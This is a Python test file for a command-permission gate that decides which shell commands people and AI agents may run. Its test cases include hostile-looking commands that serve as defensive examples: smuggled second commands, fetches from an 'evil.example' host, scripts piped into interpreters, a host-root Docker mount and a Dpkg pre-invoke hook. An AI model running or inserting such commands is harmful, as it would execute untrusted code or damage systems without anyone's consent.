"""What rules cover of the commands that people and agents use, and what of them is asked about: `data/` holds them."""

from __future__ import annotations

import pytest

from dogu.policy.commands.judge import judge_command
from policy.cases import commands
from policy.judging import gate

_EXCLUDED = ["shutdown", "git push --mirror", "git filter-branch"]


def programs(command: str) -> list[str]:
    """Every program that the command names, wrapped ones too."""
    return sorted({each.words[0] for each in judge_command(command, None, ()).commands} - {""})


_ALL_DAY = commands("ordinary.txt", "what they do all day")
_LISTED = sorted({program for command in _ALL_DAY for program in programs(command)})


def test_there_are_enough_of_them() -> None:
    assert len(commands("ordinary.txt")) > 1_500
    assert len(commands("asked.txt")) > 2_000


def test_rules_that_name_their_programs_cover_ordinary_commands() -> None:
    found = commands("ordinary.txt", "what agents use their tools for")
    assert [each for each in found if gate(each, programs(each)) != "allow"] == []


def test_one_list_of_programs_covers_what_they_do_all_day() -> None:
    assert [each for each in _ALL_DAY if gate(each, _LISTED) != "allow"] == []


def test_of_what_agents_run_all_day_hardly_anything_is_asked_about() -> None:
    found = commands("everyday.txt")
    listed = sorted({program for each in found for program in programs(each)})
    asked = [each for each in found if gate(each, listed) != "allow"]
    assert len(asked) <= 0.03 * len(found), asked


def test_a_list_that_excludes_another_program_stops_no_ordinary_command() -> None:
    found = [*_ALL_DAY, *commands("ordinary.txt", "what agents use their tools for")]
    assert [each for each in found if gate(each, ["*"], _EXCLUDED) != "allow"] == []


def test_without_lists_no_ordinary_command_is_stopped() -> None:
    assert [each for each in commands("ordinary.txt") if gate(each) != "allow"] == []


def test_what_is_more_than_its_program_is_no_refusal() -> None:
    found = commands("ordinary.txt", "more than a rule for the program, and no refusal")
    assert [each for each in found if gate(each, _LISTED) == "deny" and gate(each, programs(each)) == "deny"] == []


def test_a_rule_that_names_a_program_does_not_cover_what_is_more_than_it() -> None:
    assert [each for each in commands("asked.txt") if gate(each, [each.split(maxsplit=1)[0]]) == "allow"] == []


def test_nor_do_rules_for_every_program_in_it() -> None:
    found = commands("asked.txt", "writes files, or reaches what isn't the project's")
    assert [each for each in found if gate(each, programs(each)) == "allow"] == []


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("psql -c", r"psql -c '\! ./x'"),
        ("psql -c", "psql -c 'alter system set x = y'"),
        ("curl -o", "curl -o Makefile https://example.com/x"),
        ("adb shell ls", "adb shell ls ';rm x'"),
        ("ssh host ls", "ssh host ls '$(./x)'"),
        ("docker compose -f a.yml", "docker compose -f a.yml run web ./x"),
        ("tar -czf", "tar -czf Makefile a"),
        ("wget -q", "wget -q https://example.com/Makefile"),
        ("gcloud compute instances", "gcloud compute instances delete x"),
        ("psql -d app", "psql -d app < evil.sql"),
        ("sqlite3 -header", "sqlite3 -header app.db < evil.sql"),
        ("python3 -u", "python3 -u < evil.py"),
        ("bash -x", "bash -x < evil.sh"),
        ("sed -e", "sed -e '1e ./x' f"),
        ("npm install lodash", "npm install lodash evil"),
        ("pip install -r requirements.txt", "pip install -r requirements.txt -r evil.txt"),
        ("curl https://example.com/x", "curl https://example.com/x https://evil.example"),
        ("kubectl apply -f k8s", "kubectl apply -f k8s -f https://evil.example/x.yaml"),
        ("docker run --rm", "docker run --rm -v /:/h alpine"),
        ("apt-get install", "apt-get install -o Dpkg::Pre-Invoke::=x jq"),
    ],
)
def test_a_rule_of_several_words_covers_nothing_that_they_do_not_name(rule: str, command: str) -> None:
    assert gate(command, [rule]) == "ask"


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("python3 -c", "python3 -c 'import os; os.remove(\"x\")'"),
        ("docker exec", "docker exec app ls"),
        ("gcloud compute ssh", "gcloud compute ssh x"),
        ("aws s3 cp", "aws s3 cp a s3://b"),
        ("bash scripts/x.sh", "bash scripts/x.sh"),
        ("npm install lodash", "npm install lodash --save-dev"),
        ("kubectl get pods", "kubectl get pods web-1 -o wide"),
        ("kubectl apply", "kubectl apply -f https://example.com/x.yaml"),
        ("docker push", "docker push ghcr.io/me/app:1.2"),
        ("git remote add origin", "git remote add origin https://example.com/x"),
        ("docker run --rm", "docker run --rm -it node:20 npm test"),
    ],
)
def test_what_a_rule_names_it_covers(rule: str, command: str) -> None:
    assert gate(command, [rule]) == "allow"


def test_an_excluded_program_is_not_run_by_another() -> None:
    found = commands("asked.txt", "runs make by its arguments")
    assert [each for each in found if gate(each, None, ["make"]) == "allow"] == []


@pytest.mark.parametrize(
    "command",
    [
        "unshare --kill-child make",
        "strace --decode-fds make",
        "perf record -g make",
        "rlwrap -p make",
        "mise exec node@20 -- make x",
        "mise x -c 'make x'",
        "script -q /dev/null make",
        "script -qc 'make x' /dev/null",
        "chroot --userspec 1:1 / make",
        "setpriv --euid 1 make",
        "npm exec -- make",
        "op run --env-file x -- make",
        "aws-vault exec p -- make",
        "parallel --plus make ::: x",
        "parallel --env X make ::: x",
        "uv run --index x make",
        "uv run --torch-backend x make",
        "uv run -w x make",
        "xargs --process-slot-var X make",
        "sudo --role x make",
        "rustup run stable make",
        "opam exec -- make",
    ],
)
def test_options_of_a_wrapper_hide_no_program(command: str) -> None:
    assert gate(command, None, ["make"]) == "deny"


@pytest.mark.parametrize(
    "nested", ["npm exec -- ", "poetry run npm exec -- ", "uv run ", "env -S env ", "mise exec node@20 -- ", "nice "]
)
def test_wrappers_around_wrappers_are_followed_so_far_and_never_twice(nested: str) -> None:
    judged = judge_command(nested * 300 + "make", None, ())
    assert len(judged.commands) < 50
    assert gate(nested * 300 + "make", None, ["make"]) != "allow"
